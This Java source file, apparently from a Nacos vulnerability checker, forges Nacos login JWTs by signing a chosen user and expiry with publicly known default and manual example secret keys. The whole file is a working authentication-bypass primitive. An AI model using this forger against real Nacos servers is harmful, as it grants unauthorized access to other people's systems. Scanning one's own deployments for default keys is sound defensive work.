package io.passport.nacoscheck;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Base64;
import org.apache.commons.codec.digest.HmacAlgorithms;
import org.apache.commons.codec.digest.HmacUtils;

/**
 * A JWT as Nacos makes it ({@code NacosJwtParser}), signed with a published key: HS256 over subject and expiry.
 * A server that accepts it uses that key, so anyone can log in.
 */
final class ForgedToken {

    private static final String HEADER = "{\"alg\":\"HS256\"}";

    private ForgedToken() {}

    /** Keys that manuals and images of Nacos use as examples or defaults. */
    enum KnownKey {
        /** Nacos ignores its 69th character, which is not a whole byte. */
        DEFAULT_UNTIL_2_2("SecretKey01234567890123456789012345678901234567890123456789012345678"),
        FROM_MANUAL("VGhpc0lzTXlDdXN0b21TZWNyZXRLZXkwMTIzNDU2Nzg=");

        private final String base64;

        KnownKey(String base64) {
            this.base64 = base64;
        }
    }

    static String of(String user, Instant end, KnownKey key) {
        String content = base64(HEADER) + "."
                + base64(
                        "{\"sub\":\"%s\",\"exp\":%d}".formatted(user.replaceAll("[\"\\\\]", ""), end.getEpochSecond()));
        return content + "."
                + base64(new HmacUtils(
                                HmacAlgorithms.HMAC_SHA_256, Base64.getDecoder().decode(key.base64))
                        .hmac(content));
    }

    private static String base64(String text) {
        return base64(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String base64(byte[] bytes) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
    }
}
